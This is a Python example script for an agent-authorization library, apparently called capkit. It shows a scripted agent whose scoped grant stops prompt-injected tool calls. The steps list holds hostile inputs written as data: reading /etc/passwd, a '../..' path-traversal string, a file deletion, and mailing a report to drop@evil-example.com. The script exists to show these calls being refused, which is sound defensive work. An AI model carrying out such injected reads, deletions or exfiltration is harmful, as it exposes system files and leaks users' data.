"""A scripted agent calling HTTP tools through capkit (httpx against the ASGI app, in process).

    python examples/http_tools/run.py

The grant: read files under /srv/docs and mail addresses at example.com only,
for 10 minutes, bound to the agent's key. A prompt injection then tries to
read /etc/passwd, to escape with '..', to delete a file and to mail the report
to an outside address; each is refused with 403 and its reasons.
"""

from __future__ import annotations

import asyncio
import sys
import time
from pathlib import Path

import httpx

sys.path.insert(0, str(Path(__file__).resolve().parent))

from app import AUDIENCE, build_app  # noqa: E402

from capkit import AgentKey, Keyring, Verifier, mint  # noqa: E402
from capkit.caveats import Audience, Domain, Expires, Holder, PathUnder, Tools  # noqa: E402
from capkit.integrations import Credentials  # noqa: E402
from capkit.integrations.asgi import headers_for  # noqa: E402


async def scripted_run() -> list[tuple[str, int, str]]:
    keyring, agent = Keyring.generate(), AgentKey.generate()
    # Tools are METHOD:route: POST /files/read is the tool POST:files.read, so a grant states the method too.
    token = mint(keyring, Holder(agent.public_key), Audience(AUDIENCE), Tools("POST:files.read", "POST:mail.send"),
                 PathUnder("path", "/srv/docs", tool="POST:files.*"),
                 Domain("to", "example.com", kind="email", tool="POST:mail.send"),
                 Expires(int(time.time()) + 600), location="files")
    credentials = Credentials(token, agent, AUDIENCE)
    app = build_app(Verifier(keyring, location="files"))
    steps = [
        ("read the report", "/files/read", {"path": "/srv/docs/2026/report.pdf"}),
        ("mail a colleague", "/mail/send", {"to": "alice@example.com", "body": "see report"}),
        ("injected: read /etc/passwd", "/files/read", {"path": "/etc/passwd"}),
        ("injected: escape with ..", "/files/read", {"path": "/srv/docs/../../etc/passwd"}),
        ("injected: delete the report", "/files/delete", {"path": "/srv/docs/2026/report.pdf"}),
        ("injected: exfiltrate by mail", "/mail/send", {"to": "drop@evil-example.com", "body": "report"}),
    ]
    out = []
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://files") as client:
        for intent, path, body in steps:
            response = await client.post(path, json=body, headers=headers_for(credentials, "POST", path, body))
            data = response.json()
            out.append((intent, response.status_code, data.get("detail") or str(data)))
        stolen = await client.post("/files/read", json=steps[0][2],
                                   headers={"Authorization": f"Capkit {credentials.token_text}"})
        out.append(("thief: the token without a proof", stolen.status_code, stolen.json()["detail"]))
    return out


def main() -> int:
    for intent, status, detail in asyncio.run(scripted_run()):
        print(f"{status}  {intent}\n     {detail}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
